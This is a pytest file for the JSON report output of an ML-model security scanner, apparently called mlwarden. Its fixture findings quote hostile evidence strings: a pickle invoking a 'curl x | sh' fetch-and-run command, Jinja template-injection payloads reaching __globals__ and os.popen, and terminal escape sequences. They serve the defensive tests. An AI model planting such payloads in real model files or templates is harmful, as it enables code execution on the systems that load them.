"""The JSON renderer: schema conformance, rule metadata, ordering, safety of the output."""

from __future__ import annotations

import json
import re
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from jsonschema import Draft202012Validator

import mlwarden.report as report_pkg
from mlwarden.errors import UsageError
from mlwarden.findings import (
    Confidence,
    Finding,
    ItemError,
    Location,
    Report,
    Severity,
    SkippedItem,
)
from mlwarden.report import (
    FORMATS,
    SCHEMA_VERSION,
    load_report_schema,
    render,
    report_to_dict,
    to_json,
)
from mlwarden.rules import get_rule

T0 = datetime(2024, 5, 1, 12, 0, 0, tzinfo=timezone.utc)
T1 = T0 + timedelta(seconds=3, microseconds=250_000)


def _findings() -> tuple[Finding, ...]:
    return (
        Finding(
            "SCAN-PKL-001",
            Severity.CRITICAL,
            Confidence.HIGH,
            Location("models/ünïcødé 模型.pkl", offset=42),
            "pickle calls posix.system",
            evidence="posix.system('curl x | sh')",
            details={"opcode": "REDUCE", "depth": 2},
        ),
        Finding(
            "SCAN-ARC-001",
            Severity.MEDIUM,
            Confidence.MEDIUM,
            Location("models/outer.zip", member="inner.tar!/data.pkl"),
            "CRC of the local header disagrees with the central directory",
            evidence="crc32 0xdeadbeef != 0x00000000",
        ),
        Finding(
            "SCAN-GGUF-001",
            Severity.CRITICAL,
            Confidence.HIGH,
            Location("models/llm.gguf", line=10, column=5),
            "chat template reaches __globals__",
            evidence="{{ cycler.__init__.__globals__.os.popen('id') }}",
        ),
        Finding(
            "SCAN-GGUF-001",
            Severity.CRITICAL,
            Confidence.HIGH,
            Location("models/llm.gguf", line=9, column=1),
            "chat template reaches __globals__",
            evidence="{{ self.__init__.__globals__ }}",
        ),
        Finding(
            "PLUGIN-XYZ-001",
            Severity.LOW,
            Confidence.LOW,
            Location("models/custom.bin", offset=0),
            "a third-party rule fired",
            details={"score": float("nan"), "ratio": float("inf")},
        ),
    )


def _report(findings: tuple[Finding, ...] | None = None) -> Report:
    return Report(
        command="scan",
        findings=_findings() if findings is None else findings,
        skipped=(SkippedItem("models/link.pkl", "symbolic link (use --follow-symlinks)"),),
        errors=(ItemError("models/outer.zip!/broken.npy", "numpy: truncated header"),),
        metrics={"files": 4, "seconds": 0.25, "recognized": True, "bad": float("nan")},
        scanned=("models/outer.zip", "models/llm.gguf", "models/custom.bin"),
        started_at=T0,
        finished_at=T1,
    )


def _validator() -> Draft202012Validator:
    return Draft202012Validator(load_report_schema())


def _strict_loads(text: str) -> Any:
    def reject(token: str) -> None:
        raise AssertionError(f"non-standard JSON constant {token}")

    return json.loads(text, parse_constant=reject)


def test_schema_itself_is_valid_draft_2020_12() -> None:
    schema = load_report_schema()
    Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"


def test_schema_version_is_pinned() -> None:
    # Changing the layout means bumping this and the schema's const together.
    assert SCHEMA_VERSION == "1.0"
    assert load_report_schema()["properties"]["schema_version"]["const"] == SCHEMA_VERSION
    assert report_to_dict(_report())["schema_version"] == "1.0"


def test_every_severity_and_confidence_is_in_the_schema() -> None:
    defs = load_report_schema()["$defs"]
    assert set(defs["severity"]["enum"]) == {s.value for s in Severity}
    assert set(defs["confidence"]["enum"]) == {c.value for c in Confidence}
    by_severity = defs["summary"]["properties"]["by_severity"]
    assert set(by_severity["required"]) == {s.value for s in Severity}


@pytest.mark.parametrize("findings", [None, ()], ids=["findings", "empty"])
def test_output_validates_against_checked_in_schema(findings: tuple[Finding, ...] | None) -> None:
    data = _strict_loads(to_json(_report(findings)))
    errors = [e.message for e in _validator().iter_errors(data)]
    assert errors == []


def test_bare_report_validates() -> None:
    data = _strict_loads(to_json(Report(command="scan")))
    _validator().validate(data)
    assert data["finished_at"] is None
    assert data["summary"]["max_severity"] is None
    assert data["findings"] == data["skipped"] == data["errors"] == data["scanned"] == []


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("findings", 0, "severity"), "severe"),
        (("findings", 0, "risk"), "ML11"),
        (("findings", 0, "cwe"), "502"),
        (("findings", 0, "fingerprint"), "xyz"),
        (("findings", 0, "evidence"), "line\nbreak"),
        (("findings", 0, "location", "line"), 0),
        (("summary", "max_severity"), "fatal"),
        (("schema_version",), "2.0"),
        (("started_at",), "2024-05-01T12:00:00+02:00"),
    ],
)
def test_schema_rejects_invalid_values(path: tuple[str | int, ...], value: object) -> None:
    data = report_to_dict(_report())
    target: Any = data
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    assert not _validator().is_valid(data)


def test_schema_rejects_unknown_and_missing_keys() -> None:
    data = report_to_dict(_report())
    data["findings"][0]["unexpected"] = "x"
    assert not _validator().is_valid(data)
    data = report_to_dict(_report())
    del data["findings"][0]["location"]["member"]
    assert not _validator().is_valid(data)


def test_findings_carry_rule_metadata_from_the_catalogue() -> None:
    data = report_to_dict(_report())
    pkl = next(f for f in data["findings"] if f["rule_id"] == "SCAN-PKL-001")
    rule = get_rule("SCAN-PKL-001")
    assert pkl["rule_name"] == rule.name == "pickle-dangerous-global"
    assert pkl["risk"] == "ML06"
    assert pkl["cwe"] == "CWE-502"
    arc = next(f for f in data["findings"] if f["rule_id"] == "SCAN-ARC-001")
    assert arc["cwe"] == "CWE-434"
    assert arc["location"] == {
        "path": "models/outer.zip",
        "member": "inner.tar!/data.pkl",
        "line": None,
        "column": None,
        "offset": None,
    }


def test_unknown_rule_id_renders_with_null_metadata() -> None:
    data = report_to_dict(_report())
    plugin = next(f for f in data["findings"] if f["rule_id"] == "PLUGIN-XYZ-001")
    assert plugin["risk"] is None
    assert plugin["cwe"] is None
    assert plugin["rule_name"] is None
    _validator().validate(data)


def test_summary_counts_and_max_severity_by_rank() -> None:
    summary = report_to_dict(_report())["summary"]
    assert summary["by_severity"] == {"critical": 3, "high": 0, "medium": 1, "low": 1, "info": 0}
    assert summary["total"] == 5
    # "critical" sorts below "medium" as a string; the summary must rank, not compare names.
    assert summary["max_severity"] == "critical"
    assert (summary["files_scanned"], summary["skipped"], summary["errors"]) == (3, 1, 1)


def test_findings_sorted_worst_first_then_numerically_by_line() -> None:
    found = report_to_dict(_report())["findings"]
    ranks = [Severity(f["severity"]).rank for f in found]
    assert ranks == sorted(ranks, reverse=True)
    gguf_lines = [f["location"]["line"] for f in found if f["rule_id"] == "SCAN-GGUF-001"]
    assert gguf_lines == [9, 10]


def test_output_is_independent_of_input_order() -> None:
    base = _findings()
    # A fixed permutation (reverse, then rotate) of the builder's order.
    shuffled = list(reversed(base[2:] + base[:2]))
    report = _report()
    other = Report(
        command="scan",
        findings=tuple(shuffled),
        skipped=report.skipped,
        errors=report.errors,
        metrics=dict(reversed(list(report.metrics.items()))),
        scanned=tuple(reversed(report.scanned)),
        started_at=T0,
        finished_at=T1,
    )
    assert to_json(other) == to_json(report)


def test_non_finite_numbers_become_strings_and_output_is_strict_json() -> None:
    text = to_json(_report())
    data = _strict_loads(text)
    plugin = next(f for f in data["findings"] if f["rule_id"] == "PLUGIN-XYZ-001")
    assert plugin["details"] == {"ratio": "inf", "score": "nan"}
    assert data["metrics"]["bad"] == "nan"
    assert data["metrics"]["files"] == 4


def test_timestamps_are_iso_utc() -> None:
    data = report_to_dict(_report())
    assert data["started_at"] == "2024-05-01T12:00:00.000Z"
    assert data["finished_at"] == "2024-05-01T12:00:03.250Z"
    eastern = timezone(timedelta(hours=-5))
    shifted = Report(command="scan", started_at=datetime(2024, 5, 1, 7, 0, tzinfo=eastern))
    assert report_to_dict(shifted)["started_at"] == "2024-05-01T12:00:00.000Z"
    naive = Report(command="scan", started_at=datetime(2024, 5, 1, 12, 0))
    assert report_to_dict(naive)["started_at"] == "2024-05-01T12:00:00.000Z"


def test_unicode_paths_survive_and_undecodable_names_stay_encodable() -> None:
    data = _strict_loads(to_json(_report()))
    assert "models/ünïcødé 模型.pkl" in {f["location"]["path"] for f in data["findings"]}
    # os.fsdecode turns a non-UTF-8 byte into a lone surrogate.
    odd = Finding(
        "SCAN-PKL-002", Severity.MEDIUM, Confidence.HIGH, Location("m/\udcff.pkl"), "unknown"
    )
    text = to_json(Report(command="scan", findings=(odd,), scanned=("m/\udcff.pkl",)))
    text.encode("utf-8")
    assert _strict_loads(text)["findings"][0]["location"]["path"] == "m/\\xff.pkl"


def test_evidence_is_the_redacted_text_only() -> None:
    hostile = Finding(
        "SCAN-PKL-001",
        Severity.CRITICAL,
        Confidence.HIGH,
        Location("a.pkl"),
        "payload\x1b[2J",
        evidence="\x1b]0;owned\x07" + "A" * 1000,
    )
    found = report_to_dict(Report(command="scan", findings=(hostile,)))["findings"][0]
    assert re.fullmatch(r"[\x20-\x7e]*", found["evidence"])
    assert re.fullmatch(r"[\x20-\x7e]*", found["message"])
    assert len(found["evidence"]) <= 240
    assert found["fingerprint"] == hostile.fingerprint


def test_indent_none_gives_one_line() -> None:
    text = to_json(_report(), indent=None)
    assert text.count("\n") == 1
    assert json.loads(text) == json.loads(to_json(_report()))


def test_load_report_schema_returns_a_fresh_copy() -> None:
    load_report_schema()["properties"].clear()
    assert "findings" in load_report_schema()["properties"]


def test_render_dispatches_and_refuses_text_and_unknown() -> None:
    report = _report()
    assert FORMATS == ("text", "json", "sarif", "html")
    assert render(report, "json") == to_json(report)
    assert json.loads(render(report, "sarif"))["version"] == "2.1.0"
    with pytest.raises(UsageError, match="command line"):
        render(report, "text")
    with pytest.raises(UsageError, match="'xml'"):
        render(report, "xml")


def test_public_api_is_pinned() -> None:
    assert sorted(report_pkg.__all__) == [
        "FORMATS",
        "SCHEMA_VERSION",
        "load_report_schema",
        "render",
        "report_to_dict",
        "to_html",
        "to_json",
        "to_sarif",
        "to_sarif_dict",
    ]
